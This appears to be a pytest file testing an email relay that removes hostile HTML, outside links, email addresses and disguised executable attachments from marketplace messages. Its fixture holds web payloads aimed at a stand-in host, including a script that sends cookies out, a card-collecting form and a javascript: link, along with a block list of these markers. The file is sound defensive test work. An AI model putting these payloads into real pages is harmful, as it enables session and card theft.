"""Content rules end to end: hostile messages sent with smtplib through a
running relay deliver nothing prohibited; a legitimate newsletter arrives
with every part intact."""

from __future__ import annotations

import email
import smtplib
import sys
import threading
from email import policy
from email.message import EmailMessage
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from newsletter import PDF, leaf_parts, newsletter  # noqa: E402


def send(relay, sender, recipient, raw):
    with smtplib.SMTP(relay.host, relay.port, timeout=120) as client:
        client.ehlo()
        client.mail(sender)
        assert client.rcpt(recipient)[0] == 250
        return client.data(raw)


def html_message(sender, to, html, text=None):
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"], msg["To"], msg["Subject"] = sender, to, "hello"
    msg.set_content(text or "see the HTML part\n")
    msg.add_alternative(html, subtype="html")
    return msg.as_bytes()


HOSTILE_HTML = """<html><head><style>body{background:url(https://evil.test/bg.png)}</style>
<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/"></head>
<body onload="steal()"><script>document.location='https://evil.test/'+document.cookie</script>
<!--[if mso]><a href="https://evil.test/mso">mso</a><![endif]-->
<p>Buy cheaper at <a href="https://evil.test/shop">my own shop</a> or
<a href="https://marketplace.example@evil.test/">the marketplace</a> or
<a href="&#106;avascript:alert(1)">here</a> or <a href="//evil.test/x">there</a>.</p>
<p>Mail me at carol@elsewhere.example or visit www.evil.com, evil.xyz/deal.</p>
<img src="https://evil.test/pixel.gif" width="1" height="1">
<iframe src="https://evil.test/frame">frame text</iframe>
<form action="https://evil.test/collect"><input name="card"></form>
<svg><a href="https://evil.test/svg">svg</a></svg>
<div style="width:10px;background-image:url('https://evil.test/track')">styled</div>
<p><a href="https://marketplace.example/orders/1">Your order</a></p>
</body></html>"""

PROHIBITED = [b"evil.test", b"evil.com", b"evil.xyz", b"elsewhere.example", b"javascript", b"<script",
              b"steal()", b"onload", b"<iframe", b"<form", b"<svg", b"<style", b"<meta", b"<base",
              b"frame text", b"document.cookie"]


def test_hostile_html_delivers_nothing_prohibited(relay, upstream):
    pair = relay.pair()
    raw = html_message(pair.buyer, pair.seller_alias, HOSTILE_HTML,
                       text="Plain: https://evil.test/a www.evil.com carol@elsewhere.example\n")
    code, text = send(relay, pair.buyer, pair.seller_alias, raw)
    assert code == 250, text
    [got] = upstream.wait_for(1)
    out = email.message_from_bytes(got.data, policy=policy.default)
    decoded = b"".join(part.get_payload(decode=True) or b"" for part in out.walk()
                       if not part.is_multipart())
    for needle in PROHIBITED:
        assert needle not in decoded.lower() and needle not in got.data.lower(), needle
    html_part = out.get_body(("html",)).get_content()
    assert '<a href="https://marketplace.example/orders/1">Your order</a>' in html_part
    assert "my own shop" in html_part  # a removed hyperlink keeps its text
    assert "[email removed]" in html_part and "[link removed]" in html_part
    assert "styled" in html_part
    policy_header = out["X-Relay-Policy"]
    assert "links-removed=" in policy_header and "emails-removed=" in policy_header
    [row] = relay.archive_rows()
    assert any("removed" in change for change in row["changes"])
    assert row["raw"] == raw  # the archive keeps what was sent, for the arbiter


@pytest.mark.parametrize("filename, content, code, enhanced, says", [
    ("invoice.pdf.exe", b"MZ\x90\x00" + b"\x00" * 200, 550, b"5.7.1", b"is not allowed; allowed types: pdf, txt"),
    ("invoice.pdf", b"MZ\x90\x00" + b"\x00" * 200, 550, b"5.7.1", b"is a Windows program, not a PDF"),
    ("photos.zip", b"PK\x03\x04" + b"\x00" * 200, 550, b"5.7.1", b"is not allowed; allowed types: pdf, txt"),
    ("invoice.pdf", PDF, 250, b"2.0.0", b""),
], ids=["double-extension", "renamed-exe", "archive", "real-pdf"])
def test_attachments_through_the_relay(relay, upstream, filename, content, code, enhanced, says):
    pair = relay.pair()
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"], msg["To"], msg["Subject"] = pair.buyer, pair.seller_alias, "file"
    msg.set_content("attached\n")
    msg.add_attachment(content, maintype="application", subtype="octet-stream", filename=filename)
    got_code, text = send(relay, pair.buyer, pair.seller_alias, msg.as_bytes())
    assert (got_code, text[:5]) == (code, enhanced), text
    if code == 550:
        assert f'Attachment "{filename}" '.encode() + says in text
        assert upstream.messages == []
        assert relay.archive_rows()[0]["verdict"] == "rejected"
    else:
        [got] = upstream.wait_for(1)
        out = email.message_from_bytes(got.data, policy=policy.default)
        assert [p.get_content() for p in out.iter_attachments()] == [content]


def test_attachments_over_the_limit_are_552(start_relay, upstream):
    from support import upstream_url

    from relay.config import PolicyConfig

    relay = start_relay(upstream_url(upstream), policy=PolicyConfig(max_attachment_bytes=1000))
    pair = relay.pair()
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"], msg["To"], msg["Subject"] = pair.buyer, pair.seller_alias, "big"
    msg.set_content("attached\n")
    msg.add_attachment(PDF + b"%" * 1200, maintype="application", subtype="pdf", filename="big.pdf")
    code, text = send(relay, pair.buyer, pair.seller_alias, msg.as_bytes())
    assert (code, text[:5]) == (552, b"5.3.4")
    assert upstream.messages == []


def test_size_limit_is_derived_from_the_attachment_limit(relay):
    import smtplib as s
    with s.SMTP(relay.host, relay.port) as client:
        client.ehlo()
        size = int(client.esmtp_features["size"])
    assert size == relay.config.size_limit
    assert size > relay.config.policy.max_attachment_bytes * 4 // 3  # base64 of a full-size attachment fits


def test_newsletter_arrives_intact(relay, upstream):
    pair = relay.pair()
    raw = newsletter(pair.seller, pair.buyer_alias)
    code, text = send(relay, pair.seller, pair.buyer_alias, raw)
    assert code == 250, text
    [got] = upstream.wait_for(1)
    assert leaf_parts(got.data) == leaf_parts(raw)
    out = email.message_from_bytes(got.data, policy=policy.default)
    assert out["X-Relay-Policy"] == "clean"
    assert out["From"].addresses[0].addr_spec == pair.seller_alias


def test_a_heavy_message_does_not_stall_other_clients(relay, upstream):
    """While one large HTML message is being sanitized (seconds of work),
    another client's message goes through: the event loop keeps serving."""
    pair = relay.pair()
    heavy = html_message(pair.buyer, pair.seller_alias,
                         '<p>Visit <a href="https://evil.test/x">here</a> or www.evil.com bob@corp.com</p>\n' * 4000)
    finished: list[str] = []

    def heavy_client():
        send(relay, pair.buyer, pair.seller_alias, heavy)
        finished.append("heavy")

    thread = threading.Thread(target=heavy_client)
    thread.start()
    assert upstream.wait_for(0) == []  # nothing delivered yet
    while not relay.threaded.server.handler.in_flight:
        threading.Event().wait(0.01)  # the heavy message is now in DATA
    code, _ = send(relay, pair.buyer, pair.seller_alias,
                   html_message(pair.buyer, pair.seller_alias, "<p>small</p>"))
    finished.append("small")
    thread.join(120)
    assert code == 250
    assert finished == ["small", "heavy"]


def test_other_addresses_and_links_in_readable_headers(relay, upstream):
    pair = relay.pair()
    raw = (f"From: {pair.buyer}\r\nTo: {pair.seller_alias}\r\n"
           "Subject: reach me at bob.private@gmail.example or wa.me/123\r\nMIME-Version: 1.0\r\n"
           'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
           "--b\r\nContent-Type: text/html\r\nContent-Description: mail bob.private@gmail.example\r\n\r\n"
           '<p title="bob.private@gmail.example">hi</p>\r\n'
           "--b\r\nContent-Type: message/rfc822\r\n\r\n"
           "From: Bob Private <bob.private@gmail.example>\r\nReceived: from [203.0.113.9] by mx.gmail.example\r\n"
           "Subject: x\r\n\r\ninner\r\n--b--\r\n").encode()
    assert send(relay, pair.buyer, pair.seller_alias, raw)[0] == 250
    [got] = upstream.wait_for(1)
    for needle in (b"bob.private", b"gmail.example", b"wa.me", b"203.0.113.9"):
        assert needle not in got.data, needle
    out = email.message_from_bytes(got.data, policy=policy.default)
    assert out["Subject"] == "reach me at [email removed] or [link removed]"
